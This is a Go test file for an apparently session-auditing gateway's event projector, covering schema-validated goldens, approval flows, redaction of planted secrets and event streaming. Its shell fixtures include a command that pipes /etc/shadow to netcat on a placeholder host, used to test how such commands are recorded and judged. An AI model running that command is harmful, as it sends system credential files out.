package replay_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"sallyport/replay"
	"sallyport/replay/internal/sample"
	"sallyport/schemas"
	"sallyport/schemas/approval"
	"sallyport/schemas/events"
	"sallyport/schemas/journal"
)

var write = flag.Bool("write", false, "write goldens that are missing; one that exists is never changed")

// validator compiles the schemas that are published.
func validator(t *testing.T) func(data []byte) error {
	t.Helper()
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	for id, data := range events.All() {
		doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
		if err != nil {
			t.Fatalf("%s: %v", id, err)
		}
		if err := c.AddResource(id, doc); err != nil {
			t.Fatalf("%s: %v", id, err)
		}
	}
	return func(data []byte) error {
		var e struct {
			DataSchema string `json:"dataschema"`
		}
		if err := json.Unmarshal(data, &e); err != nil {
			return err
		}
		s, err := c.Compile(e.DataSchema)
		if err != nil {
			return err
		}
		v, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
		if err != nil {
			return err
		}
		return s.Validate(v)
	}
}

func located(n uint64, e *schemas.Entry) journal.Located {
	e.Number, e.At = n, sample.Begin.Add(time.Duration(n)*time.Second).UnixNano()
	return journal.Located{Entry: e, Stream: schemas.Facts, Sequence: 100 + n}
}

var opening = &schemas.Opened{
	Principal: &schemas.Principal{Name: "alice@example.com", Kind: schemas.PrincipalKind_PRINCIPAL_KIND_USER, Groups: []string{"eng", "oncall"}, TokenId: "tok1"},
	Run:       &schemas.Run{Id: "run1", Agent: "helper", PromptDigest: "00ff"},
	Target:    "orders", TargetLabels: map[string]string{"env": "prod"}, Protocol: "postgres", Database: "shop",
	ClientAddress: "192.0.2.7:50123", ClientName: "psql", Gateway: "g1", UpstreamUser: "app", Tls: true,
}

var asked = &schemas.Command{
	Kind: schemas.CommandKind_COMMAND_KIND_QUERY, Text: "DELETE FROM customers", TextSize: 21, Digest: []byte{0xAB},
	Sql: &schemas.SqlFacts{Kinds: []string{"DELETE"}, Writes: []string{"public.customers"}, Statements: 1, UnfilteredWrite: true},
}

func judged(o schemas.Outcome) *schemas.Entry {
	return &schemas.Entry{Kind: &schemas.Entry_Verdict{Verdict: &schemas.Verdict{Command: 2, Outcome: o, Revision: "r1", Masks: []string{"pii"},
		Reasons: []*schemas.Reason{{Policy: "no-unfiltered", Message: "say which rows"}}}}}
}

// served is a session on a server, and what is done there.
var served = &schemas.Opened{
	Principal: opening.Principal, Run: opening.Run, Target: "web1", TargetLabels: opening.TargetLabels, Protocol: "ssh",
	ClientAddress: "192.0.2.7:50123", ClientName: "SSH-2.0-OpenSSH_9.2p1", Gateway: "g1", UpstreamUser: "deploy", Tls: true,
}

// overSSH makes the event of the last of facts that follow an opening; a command of it has number 2.
func overSSH(facts ...*schemas.Entry) func() ([]byte, schemas.Subject, error) {
	return func() ([]byte, schemas.Subject, error) {
		all := []journal.Located{located(1, &schemas.Entry{Kind: &schemas.Entry_Opened{Opened: served}})}
		for i, f := range facts {
			all = append(all, located(uint64(2+i), f))
		}
		return replay.EventOf(first, all...)
	}
}

func did(c *schemas.Command) *schemas.Entry {
	c.TextSize, c.Digest = uint64(len(c.Text)), []byte{0xAB}
	return &schemas.Entry{Kind: &schemas.Entry_Command{Command: c}}
}

func shellGoldens() map[string]func() ([]byte, schemas.Subject, error) {
	facts := &schemas.ExecFacts{
		Commands: []*schemas.ExecCommand{{Program: "cat", Argv: []string{"cat", "/etc/shadow"}}, {Program: "nc", Argv: []string{"nc", "h", ""}, Unknown: []uint32{2}, Piped: true}},
		Writes:   []string{"/tmp/out"},
	}
	ran := func() *schemas.Entry {
		return did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_EXEC, Text: "cat /etc/shadow | nc h $p > /tmp/out", Exec: facts})
	}
	file := func(op *schemas.FileOperation) *schemas.Entry {
		return did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_FILE, Text: op.Operation + " " + op.Path, Parent: 1, Operation: op})
	}
	seen := &schemas.Entry{Kind: &schemas.Entry_Observed{Observed: &schemas.Observed{Command: 1, Text: "curl h", Source: "marks", Ended: true, ExitStatus: 7, Digest: []byte{0xCD},
		Exec: &schemas.ExecFacts{Commands: []*schemas.ExecCommand{{Program: "curl", Argv: []string{"curl", "h"}}}}}}}
	return map[string]func() ([]byte, schemas.Subject, error){
		"command.allowed.exec":    overSSH(ran(), judged(schemas.Outcome_OUTCOME_ALLOW)),
		"command.denied.exec":     overSSH(ran(), judged(schemas.Outcome_OUTCOME_DENY)),
		"command.denied.unparsed": overSSH(did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_EXEC, Text: "planted", Exec: &schemas.ExecFacts{Unparsed: true, ParseError: "syntax error"}}), judged(schemas.Outcome_OUTCOME_DENY)),
		"command.held.shell":      overSSH(did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_SHELL, Exec: &schemas.ExecFacts{Interactive: true}}), judged(schemas.Outcome_OUTCOME_HOLD)),
		"command.allowed.file":    overSSH(file(&schemas.FileOperation{Operation: "rename", Path: "/srv/a", To: "/srv/b"}), judged(schemas.Outcome_OUTCOME_ALLOW)),
		"command.denied.forward":  overSSH(did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_FORWARD, Text: "local db1:5432", Forward: &schemas.Forward{Direction: "local", Host: "db1", Port: 5432, Origin: "127.0.0.1:4"}}), judged(schemas.Outcome_OUTCOME_DENY)),
		"command.finished.exec":   overSSH(ran(), &schemas.Entry{Kind: &schemas.Entry_Result{Result: &schemas.Result{Command: 2, Tag: "exit 1", Duration: 12_345_678, Bytes: 9, BytesIn: 3}}}),
		"command.observed":        overSSH(seen),
		"command.alerted":         overSSH(seen, judged(schemas.Outcome_OUTCOME_HOLD)),
		"command.alerted.ends":    overSSH(seen, judged(schemas.Outcome_OUTCOME_DENY)),
		"file.transferred":        overSSH(&schemas.Entry{Kind: &schemas.Entry_File{File: &schemas.File{Command: 2, Path: "/srv/upload.bin", BytesIn: 7, DigestIn: bytes.Repeat([]byte{0xEF}, 32), Kept: true}}}),
	}
}

// goldens are the events of every type: name of the file, and what makes it.
func goldens() map[string]func() ([]byte, schemas.Subject, error) {
	fact := func(last *schemas.Entry) func() ([]byte, schemas.Subject, error) {
		return func() ([]byte, schemas.Subject, error) {
			return replay.EventOf(first, located(1, &schemas.Entry{Kind: &schemas.Entry_Opened{Opened: opening}}), located(2, &schemas.Entry{Kind: &schemas.Entry_Command{Command: asked}}), located(3, last))
		}
	}
	control := func(c *schemas.Control) func() ([]byte, schemas.Subject, error) {
		return func() ([]byte, schemas.Subject, error) {
			c.Version, c.At, c.By = 1, sample.Begin.UnixNano(), "root@example.com"
			return replay.EventOfControl(42, c, opening)
		}
	}
	request := &schemas.ApprovalAsk{Request: "a-1", Session: string(first), Command: 2, Principal: opening.Principal, Run: opening.Run, Target: "orders",
		Protocol: "postgres", Text: asked.Text, Digest: asked.Digest, Sql: asked.Sql, Kind: asked.Kind, Revision: "r1", ClientAddress: "192.0.2.7:50123",
		Parameters: []*schemas.Value{{Data: []byte("planted")}},
		Reasons:    []*schemas.Reason{{Policy: "no-unfiltered", Message: "say which rows"}},
		Need:       &schemas.ApprovalNeed{Rules: []*schemas.ApprovalRule{{Policy: "no-unfiltered", Any: []*schemas.ApprovalReviewers{{Groups: []string{"dba"}, Count: 2}}}}}}
	ref := approval.RefOf(request)
	asking := &schemas.Control{By: "alice@example.com", Kind: &schemas.Control_ApprovalRequested{ApprovalRequested: &schemas.ApprovalRequested{Request: ref, Ask: request, Lifetime: int64(time.Minute)}}}
	says := func(who, decision string) *schemas.Control {
		return &schemas.Control{By: who, Kind: &schemas.Control_ApprovalReviewed{ApprovalReviewed: &schemas.ApprovalReviewed{Request: ref, Id: "v-" + who,
			Reviewer: &schemas.Principal{Name: who, Kind: schemas.PrincipalKind_PRINCIPAL_KIND_USER, Groups: []string{"dba"}}, Decision: decision, Reason: "seen"}}}
	}
	consent := func(facts ...*schemas.Control) func() ([]byte, schemas.Subject, error) {
		return func() ([]byte, schemas.Subject, error) {
			all := append([]*schemas.Control{asking}, facts...)
			for i, c := range all {
				c.Version, c.At = 1, sample.Begin.Add(time.Duration(i)*time.Second).UnixNano()
				if c.GetApprovalDecided() != nil {
					c.At = sample.Begin.Add(time.Hour).UnixNano()
				}
			}
			return replay.EventOfApproval(all...)
		}
	}
	agent := &schemas.Principal{Name: "helper", Kind: schemas.PrincipalKind_PRINCIPAL_KIND_AGENT, Groups: []string{"bots"}, TokenId: "tok2"}
	all := map[string]func() ([]byte, schemas.Subject, error){
		"session.opened": func() ([]byte, schemas.Subject, error) {
			return replay.EventOf(first, located(1, &schemas.Entry{Kind: &schemas.Entry_Opened{Opened: opening}}))
		},
		"session.closed":             fact(&schemas.Entry{Kind: &schemas.Entry_Closed{Closed: &schemas.Closed{Reason: "killed", Message: "enough", By: "bob", Commands: 1, Rows: 2, BytesIn: 3, BytesOut: 4}}}),
		"command.allowed":            fact(judged(schemas.Outcome_OUTCOME_ALLOW)),
		"command.denied":             fact(judged(schemas.Outcome_OUTCOME_DENY)),
		"command.held":               fact(judged(schemas.Outcome_OUTCOME_HOLD)),
		"command.finished":           fact(&schemas.Entry{Kind: &schemas.Entry_Result{Result: &schemas.Result{Command: 2, Tag: "DELETE 7", Duration: 12_345_678, Bytes: 9}}}),
		"command.finished.error":     fact(&schemas.Entry{Kind: &schemas.Entry_Result{Result: &schemas.Result{Command: 2, Refused: true, Error: &schemas.Failure{Severity: "ERROR", Code: "42501", Message: "no", Hint: "ask"}}}}),
		"identity.signed_in":         control(&schemas.Control{Kind: &schemas.Control_SignIn{SignIn: &schemas.SignIn{Principal: agent, Protocol: "web", Address: "[2001:db8::1]:99", Succeeded: true}}}),
		"identity.sign_in_failed":    control(&schemas.Control{Kind: &schemas.Control_SignIn{SignIn: &schemas.SignIn{Principal: agent, Protocol: "postgres", Address: "192.0.2.1:99", Target: "orders", Reason: "expired"}}}),
		"identity.token_created":     control(&schemas.Control{Kind: &schemas.Control_TokenCreated{TokenCreated: &schemas.TokenCreated{Id: "tok2", Principal: agent, Expires: sample.Begin.UnixNano(), Targets: []string{"orders"}, Protocols: []string{"postgres"}, Lookup: []byte("planted"), Verifier: &schemas.ScramVerifier{Salt: []byte("planted"), StoredKey: []byte("planted")}}}}),
		"identity.token_revoked":     control(&schemas.Control{Kind: &schemas.Control_TokenRevoked{TokenRevoked: &schemas.TokenRevoked{Id: "tok2"}}}),
		"identity.signed_in.oidc":    control(&schemas.Control{Kind: &schemas.Control_SignIn{SignIn: &schemas.SignIn{Principal: opening.Principal, Protocol: "web", Address: "192.0.2.1:99", Succeeded: true, Provider: "corp", Method: "oidc"}}}),
		"identity.user_changed":      control(&schemas.Control{Kind: &schemas.Control_UserPut{UserPut: &schemas.UserPut{Name: "alice", Groups: []string{"eng"}, Password: "planted"}}}),
		"identity.user_removed":      control(&schemas.Control{Kind: &schemas.Control_UserRemoved{UserRemoved: &schemas.UserRemoved{Name: "alice"}}}),
		"identity.passkey_changed":   control(&schemas.Control{Kind: &schemas.Control_PasskeyPut{PasskeyPut: &schemas.PasskeyPut{Id: []byte{1, 2}, User: "alice", Label: "laptop", PublicKey: []byte("planted")}}}),
		"identity.passkey_suspected": control(&schemas.Control{Kind: &schemas.Control_PasskeyPut{PasskeyPut: &schemas.PasskeyPut{Id: []byte{1, 2}, User: "alice", Label: "laptop", PublicKey: []byte("planted"), Suspect: true, Barred: true}}}),
		"identity.passkey_removed":   control(&schemas.Control{Kind: &schemas.Control_PasskeyRemoved{PasskeyRemoved: &schemas.PasskeyRemoved{Id: []byte{1, 2}, User: "alice"}}}),
		"resource.applied":           control(&schemas.Control{Kind: &schemas.Control_ResourceApplied{ResourceApplied: &schemas.ResourceApplied{Kind: "Target", Name: "orders", Document: []byte(`{"planted":1}`)}}}),
		"resource.deleted":           control(&schemas.Control{Kind: &schemas.Control_ResourceDeleted{ResourceDeleted: &schemas.ResourceDeleted{Kind: "Policy", Name: "no-drops"}}}),
		"approval.requested":         consent(),
		"approval.reviewed":          consent(says("bob@example.com", "approve")),
		"approval.approved":          consent(says("bob@example.com", "approve"), says("carol@example.com", "approve")),
		"approval.denied":            consent(says("bob@example.com", "approve"), says("carol@example.com", "deny")),
		"approval.expired":           consent(&schemas.Control{By: "system", Kind: &schemas.Control_ApprovalDecided{ApprovalDecided: &schemas.ApprovalDecided{Request: ref, Decision: "expired"}}}),
		"approval.withdrawn":         consent(&schemas.Control{By: "alice@example.com", Kind: &schemas.Control_ApprovalWithdrawn{ApprovalWithdrawn: &schemas.ApprovalWithdrawn{Request: ref, Reason: "canceling statement due to user request"}}}),
		"approval.used": consent(says("bob@example.com", "approve"), says("carol@example.com", "approve"),
			&schemas.Control{By: "alice@example.com", Kind: &schemas.Control_ApprovalUsed{ApprovalUsed: &schemas.ApprovalUsed{Request: ref, Digest: asked.Digest}}}),
		"session.viewed":             control(&schemas.Control{Kind: &schemas.Control_Viewed{Viewed: &schemas.Viewed{Session: string(first), How: "export"}}}),
		"session.kill_requested":     control(&schemas.Control{Kind: &schemas.Control_Killed{Killed: &schemas.Killed{Session: string(first), Reason: "enough"}}}),
		"session.message_sent":       control(&schemas.Control{Kind: &schemas.Control_Steered{Steered: &schemas.Steered{Session: string(first), Action: "message", Message: "mind the rows"}}}),
		"session.paused":             control(&schemas.Control{Kind: &schemas.Control_Steered{Steered: &schemas.Steered{Session: string(first), Action: "pause", Message: "wait"}}}),
		"session.resumed":            control(&schemas.Control{Kind: &schemas.Control_Steered{Steered: &schemas.Steered{Session: string(first), Action: "resume"}}}),
		"session.annotated":          control(&schemas.Control{Kind: &schemas.Control_Annotated{Annotated: &schemas.Annotated{Session: string(first), Id: "n-1", Number: 7, Text: "here it began"}}}),
		"session.annotation_removed": control(&schemas.Control{Kind: &schemas.Control_AnnotationRemoved{AnnotationRemoved: &schemas.AnnotationRemoved{Session: string(first), Id: "n-1"}}}),
		"run.opened":                 control(&schemas.Control{Kind: &schemas.Control_RunOpened{RunOpened: &schemas.RunOpened{Run: &schemas.Run{Id: "run1", Agent: "helper", PromptDigest: "00ff"}, Prompt: "planted"}}}),
	}
	maps.Copy(all, consentGoldens())
	return all
}

// TestGoldens holds that what a type once was, it stays. A golden is added, and never edited: other
// programs parse these.
func TestGoldens(t *testing.T) {
	valid, covered := validator(t), map[string]bool{"common": true}
	all := goldens()
	maps.Copy(all, shellGoldens())
	for name, make := range all {
		data, subject, err := make()
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		var pretty bytes.Buffer
		if err := json.Indent(&pretty, data, "", "  "); err != nil {
			t.Fatal(err)
		}
		pretty.WriteByte('\n')
		if err := valid(data); err != nil {
			t.Errorf("%s: %v\n%s", name, err, pretty.String())
		}
		if strings.Contains(string(data), "planted") {
			t.Errorf("%s tells what it must not", name)
		}
		if !strings.HasPrefix(string(subject), "sallyport.event."+strings.Join(strings.Split(name, ".")[:2], ".")+".") {
			t.Errorf("%s: subject %s", name, subject)
		}
		covered[strings.Join(strings.Split(name, ".")[:2], ".")+".v1"] = true
		file := filepath.Join("testdata", "events", name+".v1.json")
		want, err := os.ReadFile(file)
		if os.IsNotExist(err) && *write {
			err = os.WriteFile(file, pretty.Bytes(), 0o644)
			want = pretty.Bytes()
		}
		if err != nil {
			t.Errorf("%v (go test -write adds it)", err)
			continue
		}
		if d := cmp.Diff(string(want), pretty.String()); d != "" {
			t.Errorf("%s: %s", name, d)
		}
	}
	for id := range events.All() {
		if !covered[strings.TrimPrefix(id, "urn:"+"sallyport:event:")] {
			t.Errorf("%s has no golden", id)
		}
	}
}

func TestTextThatCannotBeParsedIsNotTold(t *testing.T) {
	c := &schemas.Command{Text: "ALTER ROLE bob PASWORD 'planted'", Sql: &schemas.SqlFacts{Unparsed: true}}
	data, _, err := replay.EventOf(first, located(1, &schemas.Entry{Kind: &schemas.Entry_Opened{Opened: opening}}), located(2, &schemas.Entry{Kind: &schemas.Entry_Command{Command: c}}), located(3, judged(schemas.Outcome_OUTCOME_DENY)))
	if err != nil || strings.Contains(string(data), "planted") || validator(t)(data) != nil {
		t.Errorf("%s, %v, %v", data, err, validator(t)(data))
	}
}

// TestNamesThatAreMissingMakeValidEvents: a sign-in need not say who, a session need not be there.
func TestNamesThatAreMissingMakeValidEvents(t *testing.T) {
	valid := validator(t)
	for _, make := range []func() ([]byte, schemas.Subject, error){
		func() ([]byte, schemas.Subject, error) {
			return replay.EventOfControl(1, &schemas.Control{Kind: &schemas.Control_SignIn{SignIn: &schemas.SignIn{Reason: "no such token"}}}, nil)
		},
		func() ([]byte, schemas.Subject, error) {
			return replay.EventOfControl(1, &schemas.Control{Kind: &schemas.Control_Viewed{Viewed: &schemas.Viewed{Session: "x", How: "replay"}}}, nil)
		},
		func() ([]byte, schemas.Subject, error) {
			return replay.EventOf(first, located(7, judged(schemas.Outcome_OUTCOME_DENY)))
		},
		func() ([]byte, schemas.Subject, error) {
			return replay.EventOf(first, located(7, &schemas.Entry{Kind: &schemas.Entry_Closed{Closed: &schemas.Closed{Reason: "gateway_lost"}}}))
		},
	} {
		data, _, err := make()
		if err != nil {
			t.Fatal(err)
		}
		if err := valid(data); err != nil {
			t.Errorf("%s: %v", data, err)
		}
	}
}

// TestSchemasRefuse holds that the schemas say something.
func TestSchemasRefuse(t *testing.T) {
	valid := validator(t)
	data, _, err := goldens()["command.denied"]()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range [][2]string{
		{`"action_id":2`, `"action_id":1`}, {`"specversion":"1.0"`, `"specversion":"0.3"`}, {`"src_endpoint":`, `"source":`},
		{`"time":"2026-01-02T10:00:03.123456789Z"`, `"time":"yesterday"`}, {`"type_uid":600504`, `"type_uid":600501`}, {`"profiles":["security_control"],`, ``},
	} {
		broken := strings.Replace(string(data), c[0], c[1], 1)
		if broken == string(data) {
			t.Fatalf("%s is not in %s", c[0], data)
		}
		if valid([]byte(broken)) == nil {
			t.Errorf("%s is valid", c[1])
		}
	}
}

// stored returns the ids and types of what EVENTS holds, and checks each.
func stored(t *testing.T, log *journal.Log) (ids map[string]string, order []string) {
	t.Helper()
	valid := validator(t)
	ids = map[string]string{}
	err := replay.Stored(t.Context(), log, func(m journal.Message) {
		if err := valid(m.Data); err != nil {
			t.Errorf("%s: %v", m.Data, err)
		}
		e := decode[struct{ ID, Type string }](t, string(m.Data))
		if ids[e.ID] != "" {
			t.Errorf("%s is there twice", e.ID)
		}
		ids[e.ID], order = e.Type, append(order, e.Type)
		if m.Header["Sallyport-Facts"] == "" || m.Header["Sallyport-Control"] == "" {
			t.Errorf("%s has no positions: %v", e.ID, m.Header)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	return ids, order
}

const storyEvents = 10 // 4 verdicts, 4 results, opened, closed

func (w *world) told(n int) {
	w.t.Helper()
	until(w.t, "every event is there", func() bool {
		head, err := w.log.Head(w.t.Context(), schemas.Events)
		return err == nil && head >= uint64(n)
	})
}

func TestEventsAreDerivedOnceByAnyNumberOfProjectors(t *testing.T) {
	w := newWorld(t)
	w.tell()
	w.tell()
	stop := w.briefly()
	for i, id := range []schemas.SessionID{first, second, third} {
		w.story(id)
		if i == 1 {
			stop()
			stop = w.briefly()
		}
		w.get("root", "/sessions/"+string(id)+"/export")
	}
	w.told(3*storyEvents + 3)
	stop()
	w.tell() // one that begins when all is there has nothing to add
	report, err := w.events.Rebuild(t.Context(), untold)
	if err != nil || !report.Equal || report.Entries != 3*storyEvents+3 || report.Appended != 0 {
		t.Errorf("rebuild: %+v, %v", report, err)
	}
	ids, _ := stored(t, w.log)
	if len(ids) != 3*storyEvents+3 {
		t.Errorf("%d events", len(ids))
	}
	counts := map[string]int{}
	for _, kind := range ids {
		counts[kind]++
	}
	want := map[string]int{
		"sallyport.session.opened.v1": 3, "sallyport.session.closed.v1": 3, "sallyport.session.viewed.v1": 3,
		"sallyport.command.allowed.v1": 9, "sallyport.command.denied.v1": 3, "sallyport.command.finished.v1": 12,
	}
	if d := cmp.Diff(want, counts); d != "" {
		t.Error(d)
	}
}

// briefly runs another projector until it is stopped.
func (w *world) briefly() (stop func()) {
	w.t.Helper()
	e, err := replay.NewEvents(replay.EventsConfig{Log: w.log})
	if err != nil {
		w.t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- e.Run(ctx) }()
	return func() {
		cancel()
		if err := <-done; err != nil && ctx.Err() == nil {
			w.t.Errorf("events: %v", err)
		}
	}
}

// TestAProjectorThatBeginsInMidSessionTellsTheWholeStory: what an event says of its session was on
// the log before the projector began.
func TestAProjectorThatBeginsInMidSessionTellsTheWholeStory(t *testing.T) {
	log := sample.Open(t)
	w := &world{t: t, log: log, gateway: sample.NewGateway(t, log)}
	stop := w.briefly()
	s := w.gateway.Open(first)
	n := s.Command(&schemas.Command{Text: "SELECT 1"}, schemas.Outcome_OUTCOME_ALLOW)
	w.told(2)
	stop()
	defer w.briefly()()
	s.Result(&schemas.Result{Command: n, Tag: "SELECT 1", Rows: 1})
	w.told(3)
	last, err := log.Last(t.Context(), schemas.Events)
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range []string{`"sallyport.command.finished.v1"`, `"datastore_query":"SELECT 1"`, `"name":"alice@example.com"`, `"created_time":1767348000123`} {
		if !strings.Contains(string(last.Data), part) {
			t.Errorf("%s is not in %s", part, last.Data)
		}
	}
	if want := "sallyport.event.command.finished.postgres.orders"; string(last.Subject) != want {
		t.Errorf("subject %s", last.Subject)
	}
}

func TestRebuildAppendsWhatIsMissing(t *testing.T) {
	log := sample.Open(t)
	w := &world{t: t, log: log, gateway: sample.NewGateway(t, log)}
	w.gateway.Story(first).Close(&schemas.Closed{Reason: "client"})
	// A stream that claims to be further than it is, by one forged event.
	head, err := log.Head(t.Context(), schemas.Facts)
	if err != nil {
		t.Fatal(err)
	}
	header := map[string]string{"Sallyport-Facts": "1:1", "Sallyport-Control": "0"}
	if _, err := log.AppendEvent(t.Context(), schemas.EventSubject("session", "opened", "postgres", "orders"), header, []byte(`{"id":"forged"}`), 0); err != nil {
		t.Fatal(err)
	}
	w.events = w.tell()
	w.told(storyEvents) // all but the first, and the forged one
	report, err := w.events.Rebuild(t.Context(), untold)
	if err != nil || report.Equal || report.Appended != 1 || len(report.Differences) != 2 {
		t.Fatalf("%+v, %v (of %d facts)", report, err, head)
	}
	if d := cmp.Diff([]string{string(first) + ".1: missing", "forged: not on the log"}, report.Differences); d != "" {
		t.Error(d)
	}
	report, err = w.events.Rebuild(t.Context(), untold)
	if err != nil || report.Appended != 0 || len(report.Differences) != 1 {
		t.Errorf("again: %+v, %v", report, err)
	}
}

// lines reads events as they come.
func lines(t *testing.T, r *http.Response) func() map[string]any {
	t.Helper()
	if r.StatusCode != 200 {
		t.Fatal(r.Status)
	}
	scan := bufio.NewScanner(r.Body)
	scan.Buffer(nil, 1<<22)
	return func() map[string]any {
		for scan.Scan() {
			text := scan.Text()
			if text = strings.TrimPrefix(text, "data: "); strings.HasPrefix(text, "{") {
				return decode[map[string]any](t, text)
			}
		}
		return nil
	}
}

func TestEventsAreFollowedAcrossCursors(t *testing.T) {
	w := newWorld(t)
	w.story(first)
	w.told(storyEvents)
	next := lines(t, w.request("GET", "root", "/events", ""))
	var ids []string
	cursor := ""
	valid := validator(t)
	for e := next(); e != nil; e = next() {
		ids = append(ids, e["id"].(string))
		if len(ids) == 4 {
			cursor = e["sequence"].(string)
		}
		if data, _ := json.Marshal(e); valid(data) != nil {
			t.Errorf("%s: %v", data, valid(data))
		}
	}
	if len(ids) != storyEvents {
		t.Fatalf("%d events", len(ids))
	}
	next = lines(t, w.request("GET", "root", "/events?follow=true&cursor="+cursor, ""))
	for i := 4; i < len(ids); i++ {
		if e := next(); e["id"] != ids[i] {
			t.Errorf("after the cursor: %v, want %s", e["id"], ids[i])
		}
	}
	w.story(second)
	if e := next(); e["type"] != "sallyport.session.opened.v1" || e["subject"] != string(second) {
		t.Errorf("then: %v", e)
	}
	w.told(2 * storyEvents)
	next = lines(t, w.request("GET", "root", "/events?subject=sallyport.event.command.denied.%3E", ""))
	for _, id := range []schemas.SessionID{first, second} {
		if e := next(); e["type"] != "sallyport.command.denied.v1" || e["subject"] != string(id) {
			t.Errorf("denied: %v", e)
		}
	}
	if e := next(); e != nil {
		t.Errorf("more than two were denied: %v", e)
	}
	for query, status := range map[string]int{"subject=orders": 400, "subject=sallyport.event.*x": 400, "subject=sallyport.session.%3E": 400, "cursor=x": 400, "since=x": 400, "since=2999-01-01T00:00:00Z": 200} {
		if got, body := w.get("root", "/events?"+query); got != status || status == 200 && body != "" {
			t.Errorf("%s: %d %s", query, got, body)
		}
	}
}

func TestEventsSinceATimeAreFoundInALongStream(t *testing.T) {
	log := sample.Open(t)
	header := map[string]string{"Sallyport-Facts": "0:0", "Sallyport-Control": "0"}
	subject := schemas.EventSubject("command", "denied", "postgres", "orders")
	const count = 3000
	for i := range uint64(count) {
		if _, err := log.AppendEvent(t.Context(), subject, header, fmt.Appendf(nil, `{"id":"%d"}`, i+1), i); err != nil {
			t.Fatal(err)
		}
	}
	times := map[uint64]time.Time{}
	if err := replay.Stored(t.Context(), log, func(m journal.Message) { times[m.Sequence] = m.Time }); err != nil {
		t.Fatal(err)
	}
	r := &rights{}
	r.grant("root replay orders")
	mux := http.NewServeMux()
	replay.New(replay.Config{Log: log, Authorizer: r, Who: who}).Mount(mux)
	for _, n := range []uint64{1, 2, 700, 1500, count} {
		first := n
		for first > 1 && times[first-1].Equal(times[n]) {
			first--
		}
		request := httptest.NewRequestWithContext(context.WithValue(t.Context(), whoKey{}, "root"), "GET", "/api/v1/events?since="+url.QueryEscape(times[n].Format(time.RFC3339Nano)), nil)
		answer := httptest.NewRecorder()
		mux.ServeHTTP(answer, request)
		if got, want := strings.Count(answer.Body.String(), "\n"), int(count-first+1); got != want || !strings.HasPrefix(answer.Body.String(), fmt.Sprintf(`{"sequence":"%d",`, first)) {
			t.Errorf("since event %d: %d events, want %d, the first %.40s", n, got, want, answer.Body.String())
		}
	}
}

func TestEventsAsServerSentEvents(t *testing.T) {
	w := newWorld(t)
	w.story(first)
	w.told(storyEvents)
	r, err := http.NewRequestWithContext(t.Context(), "GET", w.server.URL+"/api/v1/events?follow=true", nil)
	if err != nil {
		t.Fatal(err)
	}
	r.Header = http.Header{"X-Who": {"root"}, "Accept": {"text/event-stream"}, "Last-Event-Id": {"9"}}
	response, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	if got := response.Header.Get("Content-Type"); got != "text/event-stream" {
		t.Errorf("%s", got)
	}
	if e := lines(t, response)(); e["sequence"] != "10" || e["type"] != "sallyport.session.closed.v1" {
		t.Errorf("%v", e)
	}
}

func TestEventsAreThoseThatTheReaderMaySee(t *testing.T) {
	w := newWorld(t)
	w.story(first)
	w.gateway.Story(second, func(o *schemas.Opened) { o.Target = "a.b secret" }).Close(&schemas.Closed{Reason: "client"})
	w.settled(second)
	w.told(2 * storyEvents)
	w.get("root", "/sessions/"+string(first)+"/export")
	if _, err := w.log.AppendControl(t.Context(), schemas.AreaResource, "Policy/p", &schemas.Control{Version: 1, By: "root", Kind: &schemas.Control_ResourceDeleted{ResourceDeleted: &schemas.ResourceDeleted{Kind: "Policy", Name: "p"}}}, nil); err != nil {
		t.Fatal(err)
	}
	w.told(2*storyEvents + 2)
	w.rights.grant("auditor replay a.b secret")
	for who, want := range map[string]int{"nobody": 0, "auditor": storyEvents, "root": storyEvents + 2} {
		_, body := w.get(who, "/events")
		if got := strings.Count(body, "\n"); got != want {
			t.Errorf("%s sees %d, want %d", who, got, want)
		}
		if who == "auditor" && strings.Contains(body, string(first)) {
			t.Errorf("the auditor sees %s", first)
		}
	}
}
